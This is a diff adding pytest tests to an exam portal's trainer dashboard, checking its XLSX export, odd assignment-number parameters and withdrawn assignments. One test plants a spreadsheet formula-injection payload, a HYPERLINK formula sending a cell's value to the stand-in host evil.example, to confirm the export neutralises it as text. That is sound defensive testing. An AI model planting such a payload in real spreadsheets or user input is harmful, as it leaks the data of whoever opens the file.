@@ -3,6 +3,7 @@ member's trend and predicted pass probability, the class's weak knowledge points
 item statistics of the class's papers, exported to XLSX; only for the class's
 trainers, only what enrolment shares, in a fixed number of queries."""
 
+from datetime import timedelta
 from io import BytesIO
 
 import pytest
@@ -11,7 +12,7 @@ from openpyxl import load_workbook
 
 from exam_portal.extensions import db
 from exam_portal.models.accounts import CandidateProfile, Role
-from exam_portal.models.classes import TrainingClass
+from exam_portal.models.classes import ClassAssignment, TrainingClass
 from exam_portal.models.types import utcnow
 from exam_portal.services.delivery import mastery
 from exam_portal.services.exam_sessions import class_dashboard
@@ -198,3 +199,50 @@ def test_the_dashboard_reads_a_big_class_in_as_many_queries_as_a_small_one(app):
     counts = [_count_queries(app, urls[w.class_id], clients[w.class_id]) for w in (small, big)]
     assert counts[0] == counts[1], counts
     assert counts[1] < 40, counts
+
+
+def test_the_export_keeps_what_people_wrote_as_text_never_a_formula(app):
+    """A name, an e-mail or a title starting with = (or + - @) would run as a formula
+    in a spreadsheet: the export puts the CSV guard's ' in front, as a text cell."""
+    world = class_world(app, Level.ASSISTANT)
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
+    member = make_user(app, email="=1+1@example.com")
+    with app.app_context():
+        db.session.add(CandidateProfile(user_id=member, real_name=evil))
+        db.session.commit()
+    enrol(app, world, member)
+    assign(app, world, Subject.COMP_JR, title="+SUM(1,2)")
+    response = logged_in(app, world.trainers[0]).get(
+        f"/trainer/classes/{world.class_id}/dashboard.xlsx")
+    book = load_workbook(BytesIO(response.data))
+    name, email = book["学员"]["A2"], book["学员"]["B2"]
+    title = book["作业完成情况"]["A2"]
+    for cell, written in ((name, evil), (email, "=1+1@example.com"), (title, "+SUM(1,2)")):
+        assert cell.data_type == "s", cell.value
+        assert cell.value == "'" + written
+
+
+@pytest.mark.parametrize("value", ["²", "٣", "-1", "99999999999999999999", "x"])
+def test_an_odd_assignment_number_shows_the_latest_scored_assignment(app, busy_class, value):
+    world, _members, _assignment_id = busy_class
+    client = logged_in(app, world.trainers[0])
+    for page in ("dashboard", "dashboard.xlsx"):
+        response = client.get(f"/trainer/classes/{world.class_id}/{page}?assignment={value}")
+        assert response.status_code == 200, (page, value)
+
+
+def test_a_withdrawn_assignment_is_never_overdue_on_the_dashboard(app, busy_class):
+    world, _members, assignment_id = busy_class
+    withdrawn = assign(app, world, Subject.COMP_JR, title="撤回的作业",
+                       due_in=-timedelta(days=1))
+    with app.app_context():
+        db.session.get(ClassAssignment, withdrawn).withdrawn_at = utcnow()
+        db.session.commit()
+        board = class_dashboard.dashboard(db.session.get(TrainingClass, world.class_id),
+                                          now=utcnow())
+    assert [row.assignment.id for row in board.assignments] == [assignment_id]
+    assert "撤回的作业" not in _page(app, world).get_data(as_text=True)
+    book = load_workbook(BytesIO(logged_in(app, world.trainers[0]).get(
+        f"/trainer/classes/{world.class_id}/dashboard.xlsx").data))
+    assert [row[0] for row in book["作业完成情况"].iter_rows(min_row=2, values_only=True)] \
+        == ["第一次模拟考试"]
